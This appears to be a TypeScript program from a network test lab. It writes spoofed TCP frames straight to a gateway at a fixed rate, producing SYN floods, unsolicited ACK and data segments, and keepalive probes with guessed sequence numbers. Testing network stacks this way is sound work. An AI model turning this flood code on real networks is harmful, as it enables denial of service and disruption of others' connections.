/**
 * A flood of spoofed segments at a fixed rate, as a program in the host's namespace: what a machine on the LAN can do to the
 * gateway. Frames are written to the cable itself; nothing of the host's own TCP is involved.
 *
 * Arguments: the gateway's hardware address. Controlled as children of the lab are (child.ts): `start {kind, rate, port}`, `stop`
 * (answers with the number sent). Kinds: `syn` new connections, `ack` and `data` segments of connections that nobody opened, `tiny` 1-byte
 * segments and `probe` keepalives of the host's connection to `port` with guessed numbers.
 */
import { Prng } from '../../base/prng.ts';
import { addressOf, send } from '../../native/libc.ts';
import { openPacketSocket } from '../../native/packet-socket.ts';
import { parseAddress } from '../../wire/address.ts';
import { emitTcp, TcpSpec } from '../../wire/emit.ts';
import { ACK, SYN } from '../../wire/tcp-flags.ts';
import { lineSplitter } from '../child.ts';
import { ADDRESS, END_INTERFACE } from '../topology.ts';
import { FLOOD_PREFIX_WORD, type FloodKind } from './flood.ts';

const ETHERNET = 14;
const TICK_MILLIS = 1;
/** A late timer is caught up for at most so many ticks; beyond, the rate is not reached and the count says so. */
const CATCH_UP = 50;

interface Request {
  readonly id: number;
  readonly op: 'start' | 'stop';
  readonly kind?: FloodKind;
  /** Packets per second. */
  readonly rate?: number;
  /** The host's port of the connection under attack. */
  readonly port?: number;
}

const [gatewayHardware] = process.argv.slice(2);
const socket = openPacketSocket(END_INTERFACE, { promiscuous: false });
const frame = new Uint8Array(2_048);
const view = new DataView(frame.buffer);
const frameAddress = addressOf(frame);
const random = new Prng(process.pid);
const spec = new TcpSpec();

frame.set(
  gatewayHardware!.split(':').map((byte) => Number.parseInt(byte, 16)),
  0,
);
// A locally administered source address: the gateway's switch is a cable.
frame.set([2, 0, 0, 0, 0, 1], 6);
view.setUint16(12, 0x0800);

function word(text: string): number {
  const address = parseAddress(text)!;
  return new DataView(address.buffer, address.byteOffset).getInt32(0);
}

const HOST = word(ADDRESS.host[4]);
const SERVER = word(ADDRESS.server[4]);
const ONE_BYTE = Uint8Array.of(0x41);

/** Builds the next segment behind the Ethernet header; the frame's length. */
function next(kind: FloodKind, port: number): number {
  const isAimed = kind === 'tiny' || kind === 'probe';
  // Sources are neighbours of the host, targets lie beyond the server, which throws them away.
  spec.addresses[0] = isAimed ? HOST : (HOST & ~0xff) | (3 + random.nextBelow(250));
  spec.addresses[4] = isAimed ? SERVER : FLOOD_PREFIX_WORD | random.nextBelow(256);
  spec.srcPort = isAimed ? port : 1_024 + random.nextBelow(64_000);
  spec.dstPort = isAimed ? 5_201 : 1 + random.nextBelow(65_535);
  spec.seq = random.nextUint32() | 0;
  spec.ack = kind === 'syn' ? 0 : random.nextUint32() | 0;
  spec.flags = kind === 'syn' ? SYN : ACK;
  spec.mss = kind === 'syn' ? 1_460 : -1;
  spec.window = 1_000;
  spec.payload = ONE_BYTE;
  spec.payloadTo = kind === 'data' || kind === 'tiny' ? 1 : 0;
  return ETHERNET + emitTcp(frame, view, ETHERNET, spec);
}

let timer: NodeJS.Timeout | undefined;
let sent = 0;

function start(kind: FloodKind, rate: number, port: number): void {
  sent = 0;
  const perTick = (rate * TICK_MILLIS) / 1_000;
  let due = 0;
  let last = performance.now();
  timer = setInterval(() => {
    const now = performance.now();
    due = Math.min(due + ((now - last) / TICK_MILLIS) * perTick, CATCH_UP * perTick);
    last = now;
    for (; due >= 1; due--) {
      if (send(socket.fd, frameAddress, next(kind, port)) > 0) sent++;
    }
  }, TICK_MILLIS);
}

process.stdin.setEncoding('utf8').on(
  'data',
  lineSplitter((line) => {
    const { id, op, kind = 'syn', rate = 50_000, port = 0 } = JSON.parse(line) as Request;
    clearInterval(timer);
    if (op === 'start') start(kind, rate, port);
    process.stdout.write(`${JSON.stringify({ id, sent })}\n`);
  }),
);
process.stdin.on('end', () => process.exit(0));
process.stdout.write(`${JSON.stringify({ event: 'ready' })}\n`);
